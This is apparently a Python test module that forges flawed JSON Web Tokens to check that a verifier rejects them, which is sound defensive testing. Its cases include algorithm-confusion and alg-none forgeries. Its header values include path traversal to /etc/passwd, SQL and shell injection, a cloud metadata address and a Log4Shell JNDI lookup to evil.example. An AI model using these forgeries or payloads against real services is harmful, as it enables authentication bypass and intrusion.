"""Tokens that are wrong in one thing each, beside those of `tests/core/test_tokens.py`."""

import base64
import hashlib
import json
import time
from collections.abc import Iterator
from functools import partial
from typing import Any

from cryptography.hazmat.primitives.asymmetric import ed25519
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.core.signer import Signer
from tests.core.test_tokens import (
    HOSTILE,
    Forge,
    Forger,
    Json,
    b64,
    claims,
    edited,
    encoded,
    header,
    later,
    whole,
    with_signature,
    without_signature,
)

N = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
"""The order of the curve P-256."""


def public(forger: Forger, encoding: Encoding, form: PublicFormat) -> bytes:
    key: Any = forger.issuer.key.verify.public
    written: bytes = key.prepared_key.public_bytes(encoding, form)
    return written


def shared(secret: Any, algorithm: str = "HS256") -> Forge:
    """What everyone may know, used as a shared secret."""

    def forge(forger: Forger) -> str:
        given = secret(forger)
        key = given if isinstance(given, bytes) else given.encode()
        signed = f"{encoded({**forger.header, 'alg': algorithm})}.{encoded(forger.claims)}"
        digest = getattr(hashlib, f"sha{algorithm[2:]}")
        return f"{signed}.{b64(hmac_of(key, signed.encode(), digest))}"

    return forge


def hmac_of(key: bytes, signed: bytes, digest: Any) -> bytes:
    """HMAC (RFC 2104), whatever the key; the library refuses those that are no text."""
    block = digest().block_size
    padded = (digest(key).digest() if len(key) > block else key).ljust(block, b"\0")
    inner = digest(bytes(byte ^ 0x36 for byte in padded) + signed).digest()
    return bytes(digest(bytes(byte ^ 0x5C for byte in padded) + inner).digest())


def eddsa(forger: Forger) -> str:
    signed = f"{encoded({**forger.header, 'alg': 'EdDSA'})}.{encoded(forger.claims)}"
    return f"{signed}.{b64(ed25519.Ed25519PrivateKey.generate().sign(signed.encode()))}"


def by_another(algorithm: str, **changed: object) -> Forge:
    """A stranger's key of that algorithm, under our key's name."""

    def forge(forger: Forger) -> str:
        signer = Signer.new(algorithm, forger.issuer.key.kid)
        return signer.sign(forger.claims, typ="at+jwt", **changed)

    return forge


def first(name: str, value: object, part: str) -> Forge:
    """A member twice, the hostile one first: a parser that keeps the first is led astray."""

    def forge(forger: Forger) -> str:
        parts = {"header": forger.header, "claims": forger.claims}
        doubled = f"{{{json.dumps(name)}: {json.dumps(value)}, {json.dumps(parts[part])[1:]}"
        written: dict[str, object] = {**parts, part: doubled.encode()}
        return forger.sign(written["header"], written["claims"])

    return forge


def recoded(part: str, change: Any) -> Forge:
    """Header or claims as other bytes, signed."""

    def forge(forger: Forger) -> str:
        parts: Json = {"header": forger.header, "claims": forger.claims}
        written = {**parts, part: change(json.dumps(parts[part]))}
        return forger.sign(written["header"], written["claims"])

    return forge


def numbers(r: int, s: int) -> Forge:
    return with_signature(r.to_bytes(32, "big") + s.to_bytes(32, "big"))


def resigned(change: Any) -> Forge:
    """The good signature's two numbers, written in another way."""

    def forge(forger: Forger) -> str:
        head, _, signature = forger.good().rpartition(".")
        raw = base64.urlsafe_b64decode(signature + "==")
        return f"{head}.{change(raw)}"

    return forge


def signed_over(change: Any) -> Forge:
    """Our signature, but over other bytes than the token's."""

    def forge(forger: Forger) -> str:
        head = forger.good().rpartition(".")[0]
        private: Any = forger.issuer.key.private
        return f"{head}.{b64(private.sign(change(head).encode()))}"

    return forge


def swapped(token: str, place: int) -> str:
    """The token with one character of its signature replaced."""
    at = len(token) - 86 + place
    return f"{token[:at]}{'A' if token[at] != 'A' else 'B'}{token[at + 1 :]}"


def decoded_payload(head: str) -> str:
    payload = head.partition(".")[2]
    return base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)).decode()


def flattened(forger: Forger) -> str:
    """The JSON serialization of JWS (RFC 7515 section 7.2.2)."""
    protected, payload, signature = forger.good().split(".")
    return json.dumps({"protected": protected, "payload": payload, "signature": signature})


WRONG: dict[str, tuple[object, ...]] = {
    "text": (3.5, True, [], {}, ["a"], {"a": "b"}, ""),
    "moment": (3.5, False, [], {}, [1], "1", 1e9, -5, 2**63),
}
CLAIMS = dict.fromkeys(("iss", "aud", "sub", "role", "name", "scope", "sid", "jti"), "text") | {
    "iat": "moment",
    "exp": "moment",
    "nbf": "moment",
}


def mistyped() -> Iterator[tuple[str, Forge]]:
    """Every claim in every wrong type."""
    for name, kind in CLAIMS.items():
        for value in WRONG[kind]:
            yield f"{name} is {value!r}", claims(**{name: value})
    for value in (3.5, "", {}, True, [1.5], [[]], [{}], [True], "NN,LZ"):
        yield f"sites is {value!r}", claims(sites=value)
    for value in (1, 1.5, "", "true", [], {}, None):
        yield f"machine is {value!r}", claims(machine=value)


KIDS: tuple[object, ...] = (
    "/dev/null",
    "../../../../etc/passwd",
    "..\\..\\key.pem",
    "file:///proc/self/environ",
    "http://169.254.169.254/",
    "key.pem",
    "x' UNION SELECT 'key' --",
    "'; DROP TABLE account; --",
    "$(id)",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "\0",
    "\n",
    "K" * 2500,
    "١٢٣",
    0,
    True,
    {"kid": 1},
    [],
)
TYPES: tuple[object, ...] = (
    "",
    "jwt",
    "id+jwt",
    "logout+jwt",
    "JOSE",
    "at+jwt\0",
    " at+jwt",
    7,
    [],
    None,
)
CRITICAL: tuple[object, ...] = ([], None, "exp", ["alg"], [["exp"]], {})
HEADERS: dict[str, Json] = {
    **{f"kid is {kid!r:.40}": {"kid": kid} for kid in KIDS},
    **{f"typ is {typ!r}": {"typ": typ} for typ in TYPES},
    **{
        f"alg is {alg!r}": {"alg": alg}
        for alg in ("", "ES256K", "ES512", "PS256", "dir", "ES256 ", "ＥＳ２５６", "ES256\0")
    },
    **{
        f"alg is {alg!r} itself": {"alg": alg}
        for alg in (256, True, {}, ["none"], {"alg": "ES256"})
    },
    **{f"crit is {crit!r}": {"crit": crit} for crit in CRITICAL},
    "jku of ours": {"jku": "http://trial.test/.well-known/jwks.json"},
    "jku of a file": {"jku": "file:///etc/passwd"},
    "jku null": {"jku": None},
    "jwk null": {"jwk": None},
    "jwk of a shared secret": {"jwk": {"kty": "oct", "k": "AAAA"}},
    "x5c empty": {"x5c": []},
    "x5t#S256": {"x5t#S256": "AAAA"},
    "b64 false": {"b64": False},
    "p2c huge": {"p2c": 2**31},
    "an ephemeral key": {"epk": {"kty": "EC", "crv": "P-256"}},
    "claims in the header": {"iss": "http://trial.test", "exp": 2**40},
    "ALG beside alg": {"ALG": "none"},
    "a member without a name": {"": ""},
}

MORE: dict[str, Forge] = {
    **{f"unsigned, alg {alg!r}": without_signature(alg) for alg in ("NONE", "nonE", "NoNe")},
    **{f"unsigned, alg {alg!r}": without_signature(alg) for alg in (" none", "none ", "nοne", "")},
    "alg none, signed by nobody": lambda f: without_signature("none")(f) + b64(b"nobody"),
    # our public key as a secret
    "HS256 with the DER": shared(
        lambda f: public(f, Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    ),
    "HS256 with the point": shared(
        lambda f: public(f, Encoding.X962, PublicFormat.UncompressedPoint)
    ),
    "HS256 with the compressed point": shared(
        lambda f: public(f, Encoding.X962, PublicFormat.CompressedPoint)
    ),
    "HS256 with the PEM, stripped": shared(
        lambda f: public(f, Encoding.PEM, PublicFormat.SubjectPublicKeyInfo).strip()
    ),
    "HS384 with the PEM": shared(
        lambda f: public(f, Encoding.PEM, PublicFormat.SubjectPublicKeyInfo), "HS384"
    ),
    "HS512 with the PEM": shared(
        lambda f: public(f, Encoding.PEM, PublicFormat.SubjectPublicKeyInfo), "HS512"
    ),
    "HS256 with the key set": shared(lambda f: json.dumps(f.issuer.jwks())),
    "HS256 with the canonical JWK": shared(
        lambda f: json.dumps(f.issuer.key.jwk, separators=(",", ":"), sort_keys=True)
    ),
    "HS256 with x": shared(lambda f: f.issuer.key.jwk["x"]),
    "HS256 with the issuer": shared(lambda f: f.issuer.issuer),
    "HS256 with a common secret": shared(lambda _: "secret"),
    # other keys
    "EdDSA": eddsa,
    "ES384 by a stranger": by_another("ES384"),
    "ES512 by a stranger": by_another("ES512"),
    "ES384 said to be ES256": by_another("ES384", alg="ES256"),
    "RS256 said to be ES256": by_another("RS256", alg="ES256"),
    "RS384 by a stranger": by_another("RS384"),
    "a stranger who brings a certificate": by_another("ES256", x5c=["MIIB"]),
    "a stranger who says where the key is": by_another("ES256", jku="https://evil.example/"),
    # the header
    **{name: header(**changed) for name, changed in HEADERS.items()},
    "none before ES256": first("alg", "none", "header"),
    "another typ before ours": first("typ", "JWT", "header"),
    "another kid before ours": first("kid", "theirs", "header"),
    "a deep member": header(a=json.loads("[" * 400 + "]" * 400)),
    "a long header": header(a="x" * 3000),
    # encodings
    **{
        f"{part} in {name}": recoded(part, change)
        for part in ("header", "claims")
        for name, change in {
            "UTF-16": lambda text: text.encode("utf-16"),
            "UTF-32": lambda text: text.encode("utf-32-le"),
            "UTF-8 with a byte order mark": lambda text: b"\xef\xbb\xbf" + text.encode(),
            "overlong UTF-8": lambda text: text.encode().replace(b"a", b"\xc1\xa1", 1),
            "single quotes": lambda text: text.replace('"', "'").encode(),
            "JSON with a comma too many": lambda text: f"{text[:-1]},}}".encode(),
            "JSON with a comment": lambda text: f"{text}/**/".encode(),
            "JSON twice": lambda text: f"{text}{text}".encode(),
            "two lists": lambda text: f"[[{text}]]".encode(),
            "JSON that ends early": lambda text: text[:-1].encode(),
            "JSON that ends with NUL": lambda text: f"{text}\0".encode(),
            "JSON with NaN": lambda text: f'{text[:-1]}, "n": NaN}}'.encode(),
        }.items()
    },
    # claims
    **dict(mistyped()),
    "admin before investigator": first("role", "admin", "claims"),
    "every site before ours": first("sites", ["LZ", "NN", "YL"], "claims"),
    "a later exp before ours": first("exp", 2**40, "claims"),
    "another iss before ours": first("iss", "http://evil.example", "claims"),
    "iss with a slash": lambda f: claims(iss=f"{f.issuer.issuer}/")(f),
    "iss in capitals": lambda f: claims(iss=f.issuer.issuer.upper())(f),
    "iss with a path": lambda f: claims(iss=f"{f.issuer.issuer}/v1")(f),
    "iss with a NUL": lambda f: claims(iss=f"{f.issuer.issuer}\0")(f),
    "aud with a space": lambda f: claims(aud=f"{f.issuer.audience} ")(f),
    "aud in capitals": lambda f: claims(aud=f.issuer.audience.upper())(f),
    "aud is a part of ours": lambda f: claims(aud=f.issuer.audience[:5])(f),
    "aud is our issuer": lambda f: claims(aud=f.issuer.issuer)(f),
    "role in capitals": claims(role="INVESTIGATOR"),
    "role with a space": claims(role="investigator "),
    "role is two": claims(role="investigator,admin"),
    "role is a letter alike": claims(role="іnvestigator"),
    "sub with a NUL": lambda f: claims(sub=f"{f.claims['sub']}\0")(f),
    "sub in full-width digits": claims(sub="０1234567-0000-7000-8000-000000000000"),
    "an hour old and for ever": lambda f: claims(iat=int(time.time()) - 3600, exp=2**52)(f),
    "a quarter of an hour and a second": lambda f: claims(
        iat=int(time.time()) - 300, exp=int(time.time()) + 601
    )(f),
    "not before two minutes from now": later(120, "nbf"),
    "very deep claims": whole(b"[" * 1400 + b"]" * 1400),
    "no claims": whole({}),
    "empty claims": whole(b""),
    # tokens in tokens
    "a token as a claim of its own": lambda f: f.sign(f.header, {"jwt": f.good()}),
    "a token in a token": lambda f: f.sign({**f.header, "cty": "at+jwt"}, f.good().encode()),
    "the JSON serialization": flattened,
    "a detached payload": edited(lambda t: f"{t.split('.')[0]}..{t.split('.')[2]}"),
    "base64 of a token": edited(lambda t: b64(t.encode())),
    "hexadecimal of a token": edited(lambda t: t.encode().hex()),
    "a token without dots' escapes": edited(lambda t: t.replace(".", "%2E")),
    "a token in small letters": edited(str.lower),
    "a token in capitals": edited(str.upper),
    "a token backwards": edited(lambda t: t[::-1]),
    "parts in another order": edited(lambda t: ".".join(reversed(t.split(".")))),
    "a header padded": edited(lambda t: t.replace(".", "==.", 1)),
    "a zero-width space inside": edited(lambda t: f"{t[:9]}\u200b{t[9:]}"),
    "a combining accent at the end": edited(lambda t: f"{t}\u0301"),
    "letters from right to left": edited(lambda t: f"\u202e{t}"),
    "a dot of another script": edited(lambda t: t.replace(".", "。", 1)),
    "a scheme inside": edited(lambda t: f"Bearer {t}"),
    "a tab before": edited(lambda t: f"\t{t}"),
    "a comma after": edited(lambda t: f"{t},"),
    "a semicolon and more": edited(lambda t: f"{t};role=admin"),
    # signatures
    **{
        f"signature altered at {place}": edited(partial(swapped, place=place))
        for place in (1, 20, 43, 60, 84)
    },
    "a signature cut by one": edited(lambda t: t[:-1]),
    "a signature cut by half": edited(lambda t: t[:-43]),
    "a signature longer by one": edited(lambda t: f"{t}A"),
    "a signature twice": edited(lambda t: t + t[-86:]),
    "a signature of ones": numbers(1, 1),
    "r is zero": numbers(0, 1),
    "s is zero": numbers(1, 0),
    "r and s are the order": numbers(N, N),
    "r and s are above it": numbers(2**256 - 1, 2**256 - 1),
    "r and s exchanged": resigned(lambda raw: b64(raw[32:] + raw[:32])),
    "a signature in hexadecimal": resigned(bytes.hex),
    "a signature of the usual alphabet": resigned(lambda raw: base64.b64encode(raw).decode()),
    "DER in hexadecimal": resigned(
        lambda raw: encode_dss_signature(
            int.from_bytes(raw[:32], "big"), int.from_bytes(raw[32:], "big")
        ).hex()
    ),
    "signed: the claims alone": signed_over(lambda head: head.partition(".")[2]),
    "signed: the header alone": signed_over(lambda head: head.partition(".")[0]),
    "signed: the decoded claims": signed_over(decoded_payload),
    "signed: nothing": signed_over(lambda _: ""),
    "signed: another token": lambda f: (
        f"{f.good().rpartition('.')[0]}.{f.sign(f.header, {}).rpartition('.')[2]}"
    ),
}

FORGERIES: dict[str, Forge] = {**HOSTILE, **MORE}
